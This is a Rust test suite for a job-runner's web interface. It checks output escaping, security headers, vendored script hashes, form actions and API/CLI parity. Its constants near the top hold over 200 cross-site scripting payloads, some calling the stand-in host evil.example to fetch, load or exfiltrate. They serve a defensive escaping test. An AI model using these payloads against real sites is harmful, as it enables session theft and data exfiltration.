//! Tests pages as a browser parses them, and the actions of their forms.

use scraper::{Html, Selector};
use serde_json::Value;

use super::{Served, paths, project};
use crate::fixture::Fixture;

/// Strings that would run a script, send a request or load another page if they were not escaped.
const PAYLOADS: [&str; 12] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'><iframe srcdoc=x>",
    "</pre><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "\" autofocus onfocus=alert(1) x=\"",
    "<form action=//evil.example>",
    "{{ 7 * 7 }}<b hx-get=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
];

/// Markup that, if it is not escaped, runs the code that replaces `{}`.
const SHAPES: [&str; 21] = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe src=\"javascript:{}\"></iframe>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>x</marquee>",
    "<object data=\"data:text/html,{}\"></object>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<a href=\"javascript:{}\">x</a>",
    "<audio src=x onerror={}></audio>",
    "\"><b hx-on:load={}>",
    "' onmouseover={} x='",
    "<template><script>{}</script></template>",
];
/// Actions that an injected script may take.
const ACTIONS: [&str; 10] = [
    "alert(1)",
    "fetch('//evil.example')",
    "new Image().src='//evil.example'",
    "location='//evil.example'",
    "eval('1')",
    "document.cookie",
    "document.forms[0].submit()",
    "import('//evil.example')",
    "window.opener",
    "htmx.ajax('POST','/pause')",
];

/// Returns every action in every shape.
fn payloads() -> Vec<String> {
    let shaped =
        SHAPES.iter().flat_map(|shape| ACTIONS.iter().map(|action| shape.replace("{}", action)));
    shaped.collect()
}

/// Checks that a page, as a browser parses it, contains no unknown element, event handler, remote
/// link or inline script.
fn check(path: &str, body: &str, own: &[&str]) {
    let page = Html::parse_document(body);
    for element in page.select(&Selector::parse("*").unwrap()) {
        let name = element.value().name();
        let known = [
            "html", "head", "meta", "title", "link", "script", "body", "a", "nav", "form",
            "button", "input", "select", "option", "label", "main", "h1", "h2", "h3", "p", "div",
            "section", "article", "dl", "dt", "dd", "span", "time", "table", "thead", "tbody",
            "tr", "th", "td", "ul", "li", "b", "code", "pre", "details", "summary", "progress",
            "header", "footer", "style", "aside",
        ];
        assert!(known.contains(&name) || own.contains(&name), "{path}: <{name}>");
        for (attribute, value) in element.value().attrs() {
            assert!(!attribute.starts_with("on"), "{path}: <{name} {attribute}={value:?}>");
            assert!(
                !value.trim().to_ascii_lowercase().starts_with("javascript:"),
                "{path}: {value}"
            );
            if ["href", "src", "action", "formaction", "hx-get", "hx-sse:connect"]
                .contains(&attribute)
            {
                let local =
                    value.starts_with('/') && !value.starts_with("//") || value.starts_with('#');
                assert!(local, "{path}: <{name} {attribute}={value:?}>");
            }
        }
        if name == "script" {
            assert!(
                ["/htmx.js", "/hx-sse.js"].contains(&element.value().attr("src").unwrap_or("")),
                "{path}"
            );
            assert_eq!(element.text().collect::<String>(), "", "{path}");
        }
    }
}

/// Creates a project whose files, jobs, output and notes contain the payloads.
fn hostile_project() -> Fixture {
    let mut jobs = String::new();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let script =
            format!("cat <<'END'\n{payload}\nEND\ncat <<'END' >&2\n{payload}\nEND\nexit 1\n");
        let program = toml_text(&script);
        jobs.push_str(&format!(
            "[jobs.j{number}]\nkind = \"command\"\ntrigger = \"manual\"\nprogram = \"sh\"\nargs = [\"-c\", {program}]\nretries = 0\n"
        ));
    }
    let fixture = Fixture::with(&jobs);
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let name = payload.replace('/', "\u{2215}");
        let more: Vec<String> =
            payloads().into_iter().skip(number).step_by(PAYLOADS.len()).collect();
        let more = more.join("\n");
        fixture.write(
            &format!("ideas/{name}.md"),
            format!("# Idea {number} {payload}\n\n- Add it: {payload}\n{more}\n"),
        );
    }
    fixture
        .write("plan.org", format!("* Tasks\n** TODO {}\n** DOING {}\n", PAYLOADS[0], PAYLOADS[1]));
    for (number, payload) in PAYLOADS.iter().enumerate() {
        fixture.run(&["jobs", "run", &format!("j{number}")]).ends(1);
        let args = format!("args=[\"-c\", \"true\", {}]", toml_text(payload));
        fixture.run(&["enqueue", &format!("j{number}"), "--set", &args]).ends(0);
    }
    fixture.run(&["dream", "run"]).ends(0);
    let list = fixture.run(&["dream", "list", "--json"]).ends(0).json();
    let id = list[0]["id"].as_str().unwrap();
    fixture.run(&["dream", "reject", id, "--note", PAYLOADS[2]]).ends(0);
    fixture
}

fn toml_text(text: &str) -> String {
    format!("'''{text}'''").replace("'><", "\u{2019}><")
}

#[test]
fn no_text_becomes_markup() {
    let fixture = hostile_project();
    let served = Served::start(&fixture);
    let (cookie, project) = (served.log_in(), served.project());
    let runs = served.api("/runs?limit=100");
    let proposals = served.api(&format!("/projects/{project}/proposals?all=1"));
    let mut shown = String::new();
    let ids = |all: &Value| -> Vec<String> {
        all.as_array().unwrap().iter().map(|it| it["id"].as_str().unwrap().to_owned()).collect()
    };
    let (runs, proposals) = (ids(&runs), ids(&proposals));
    assert!(
        runs.len() > PAYLOADS.len() && proposals.len() >= PAYLOADS.len() - 1,
        "{runs:?} {proposals:?}"
    );
    let mut seen = 0;
    for (at, run) in runs.iter().enumerate() {
        let proposal = &proposals[at % proposals.len()];
        let parts = [
            ("project", project.as_str()),
            ("run", run),
            ("night", "last"),
            ("proposal", proposal),
        ];
        for path in paths(&served, &parts) {
            let page = path.strip_prefix("/api/v1").unwrap();
            let every_time = page.contains(run.as_str()) || page.contains(proposal.as_str());
            if (at > 0 && !every_time)
                || page.ends_with("/log")
                || ["/events", "/openapi.json"].contains(&page)
            {
                continue;
            }
            let reply = served.get(page, &cookie);
            assert!([200, 404, 409].contains(&reply.status), "{page}: {reply:?}");
            check(page, &reply.body, &[]);
            shown.push_str(&reply.body);
            seen += 1;
        }
    }
    for query in PAYLOADS {
        let encoded: String = query.bytes().map(|byte| format!("%{byte:02X}")).collect();
        for page in [
            format!("/runs?search={encoded}"),
            format!("/runs?{encoded}=1"),
            format!("/projects/{encoded}"),
        ] {
            let reply = served.get(&page, &cookie);
            check(&page, &reply.body, &[]);
            seen += 1;
        }
    }
    let all = payloads();
    assert!(all.len() >= 200, "{}", all.len());
    for payload in all.iter().map(String::as_str).chain(PAYLOADS) {
        let escaped = payload
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;");
        assert!(shown.contains(&escaped.replace('\'', "&#39;")), "no page shows {payload:?}");
    }
    assert!(seen > 60, "{seen}");
}

#[test]
fn responses_have_all_security_headers() {
    let fixture = project();
    let served = Served::start(&fixture);
    let cookie = served.log_in();
    for path in ["/", "/login", "/style.css", "/nothing", "/api/v1/runs", "/api/v1/nothing"] {
        let head = served.get(path, &cookie).head;
        for header in [
            "content-security-policy: default-src 'none'; script-src 'self';",
            "x-content-type-options: nosniff",
            "x-frame-options: deny",
            "referrer-policy: same-origin",
            "cross-origin-resource-policy: same-origin",
        ] {
            assert!(head.contains(header), "{path}: no {header} in {head}");
        }
        assert!(
            !head.contains("unsafe-inline") && !head.contains("access-control"),
            "{path}: {head}"
        );
    }
}

#[test]
fn vendored_scripts_are_unchanged() {
    use sha2::{Digest as _, Sha256};
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/web/vendor");
    let sums = std::fs::read_to_string(folder.join("SHA256SUMS")).unwrap();
    for line in sums.lines() {
        let (sum, name) = line.split_once("  ").unwrap();
        let digest = Sha256::digest(std::fs::read(folder.join(name)).unwrap());
        let digest: String = digest.iter().map(|byte| format!("{byte:02x}")).collect();
        assert_eq!(digest, sum, "{name}");
    }
    assert_eq!(sums.lines().count(), 2);
}

#[test]
fn actions_do_what_the_commands_do() {
    let fixture = project();
    fixture.run(&["dream", "run"]).ends(0);
    fixture.run(&["jobs", "run", "bad"]).ends(1);
    let served = Served::start(&fixture);
    let (cookie, project) = (served.log_in(), served.project());
    let base = format!("/projects/{project}");
    let done = |path: &str, body: &str| {
        let reply = served.post(path, &cookie, body).ends(303);
        reply.head.lines().find_map(|line| line.strip_prefix("location: ")).unwrap().to_owned()
    };
    assert_eq!(
        done(&format!("{base}/jobs/ok/runs"), "").to_ascii_uppercase(),
        format!("{base}/jobs").to_ascii_uppercase()
    );
    let again = [("Cookie", cookie.as_str()), ("HX-Request", "true")];
    let page = served.send("GET", &format!("{base}/jobs"), &again, "").ends(200).body;
    assert!(!page.contains("ok queued"), "a page that reloads itself consumed the result: {page}");
    let page = served.get(&format!("{base}/jobs"), &cookie).ends(200).body;
    assert!(page.contains("ok queued") && page.contains("no daemon is running"), "{page}");
    let queued = served.api("/runs?outcome=queued")[0]["id"].as_str().unwrap().to_owned();
    done(&format!("/runs/{queued}/cancel"), "");
    assert_eq!(served.api(&format!("/runs/{queued}"))["outcome"], "cancelled");
    served.post(&format!("/runs/{queued}/cancel"), &cookie, "").ends(409);
    let page = served.get(&format!("/runs/{queued}"), &cookie).ends(200).body;
    assert!(
        page.contains("runner cancel -- ") && page.contains("from 127.0.0.1 with the login"),
        "{page}"
    );
    done(&format!("/runs/{queued}/retry"), "");
    assert_eq!(served.api("/runs?outcome=queued").as_array().unwrap().len(), 1);
    done(&format!("{base}/jobs/ok/pause"), "until=2h");
    assert!(fixture.run(&["jobs", "show", "ok", "--json"]).json()["paused_until"].is_string());
    done(&format!("{base}/jobs/ok/resume"), "");
    assert!(fixture.run(&["jobs", "show", "ok", "--json"]).json()["paused_until"].is_null());
    assert_eq!(fixture.run(&["jobs", "show", "bad", "--json"]).json()["failures"], 1);
    done(&format!("{base}/jobs/bad/reset"), "");
    assert_eq!(fixture.run(&["jobs", "show", "bad", "--json"]).json()["failures"], 0);
    let list = served.api(&format!("{base}/proposals"));
    let id = list[0]["id"].as_str().unwrap();
    let before = fixture.tree("ideas");
    fixture.configure("[jobs.later]\nkind = \"command\"\nprogram = \"true\"\n");
    served.api(&format!("{base}/proposals/{id}"));
    assert_eq!(
        fixture.count("SELECT count(*) FROM jobs WHERE name = 'later'"),
        0,
        "reading a proposal changed the database"
    );
    done(&format!("{base}/proposals/{id}/accept"), "note=seen");
    let status = fixture.run(&["status"]).ends(0);
    assert!(!status.out.contains("locked"), "{}", status.out);
    let decided = served.api(&format!("{base}/proposals/{id}"));
    assert_eq!(
        (&decided["decision"]["decision"], &decided["decision"]["note"]),
        (&"accepted".into(), &"seen".into())
    );
    done(&format!("{base}/proposals/{id}/undo"), "");
    assert_eq!(fixture.tree("ideas"), before);
    done("/pause", "");
    assert!(!served.api("/status")["paused"].is_null());
    done("/resume", "");
    let sql = "SELECT count(*) FROM events WHERE kind = 'web' AND detail LIKE 'runner %: asked by % from 127.0.0.1 with the login %'";
    assert_eq!(
        fixture.count(sql),
        11,
        "the audit trail must contain every request, including the refused one"
    );
}

#[test]
fn api_matches_the_command_line() {
    let fixture = project();
    fixture.run(&["night"]).ends(1);
    let served = Served::start(&fixture);
    let project = served.project();
    let base = format!("/projects/{project}");
    let run = served.api("/runs?limit=1")[0]["id"].as_str().unwrap().to_owned();
    for (path, words) in [
        ("/runs".to_owned(), vec!["runs", "--all"]),
        (format!("/runs/{run}"), vec!["runs", "show", &run]),
        (format!("{base}/runs?limit=2"), vec!["runs", "--limit", "2"]),
        (format!("{base}/jobs"), vec!["jobs", "list"]),
        (format!("{base}/proposals"), vec!["dream", "list"]),
        (format!("{base}/budget"), vec!["budget", "show"]),
        (format!("{base}/settings"), vec!["config", "show", "--origin"]),
        (format!("{base}/nights/last"), vec!["report"]),
        ("/alerts".to_owned(), vec!["alerts", "list", "--all"]),
        ("/projects".to_owned(), vec!["projects", "list"]),
        ("/status".to_owned(), vec!["status"]),
    ] {
        let mut words = words.clone();
        words.push("--json");
        assert_eq!(served.api(&path), fixture.run(&words).ends(0).json(), "{path}");
    }
    let all = served.api("/runs?limit=200");
    let ids: Vec<&str> =
        all.as_array().unwrap().iter().map(|it| it["id"].as_str().unwrap()).collect();
    let mut walked = Vec::new();
    let mut path = "/runs?limit=2".to_owned();
    loop {
        let part = served.api(&path);
        let Some(last) = part.as_array().unwrap().last() else { break };
        walked.extend(
            part.as_array().unwrap().iter().map(|it| it["id"].as_str().unwrap().to_owned()),
        );
        path = format!("/runs?limit=2&before={}", last["id"].as_str().unwrap());
    }
    assert_eq!(walked, ids, "the cursor skips or repeats runs");
    let reader = format!("Bearer {}", served.secret("read-token"));
    let metrics = served.send("GET", "/metrics", &[("Authorization", &reader)], "").ends(200);
    assert!(metrics.body.contains("runner_runs_total{"), "{}", metrics.body);
    served.send("GET", "/metrics", &[], "").ends(401);
    let found = served.api("/runs?search=dream");
    assert!(found.as_array().unwrap().iter().all(|it| it.to_string().contains("dream")), "{found}");
    let token = format!("Bearer {}", served.secret("token"));
    let queue = format!("/api/v1{base}/jobs/ok/runs");
    let headers = [
        ("Authorization", token.as_str()),
        ("Origin", &served.origin()),
        ("Idempotency-Key", "one"),
    ];
    let first = served.send("POST", &queue, &headers, "").ends(200).json();
    let again = served.send("POST", &queue, &headers, "").ends(200).json();
    assert_eq!(first["id"], again["id"]);
    assert_eq!(fixture.count("SELECT count(*) FROM occurrences WHERE origin = 'queue'"), 1);
}

#[test]
fn night_page_shows_jobs_that_did_not_run() {
    let fixture = Fixture::new();
    fixture.run_at("2026-11-21T20:00:00Z", &["init"]).ends(0);
    fixture.configure("[jobs.a]\nkind = \"command\"\nprogram = \"true\"\ncatch_up = \"none\"\n");
    fixture.run_at("2026-11-21T20:00:00Z", &["tick"]).ends(0);
    fixture.run_at("2026-11-22T02:55:00Z", &["tick"]).ends(0);
    let served = Served::start(&fixture);
    let cookie = served.log_in();
    let path = format!("/projects/{}/nights/2026-11-22", served.project());
    let page = served.get(&path, &cookie).ends(200).body;
    assert!(page.contains("a did not run") && page.contains("a at 2026-11-22T"), "{page}");
}
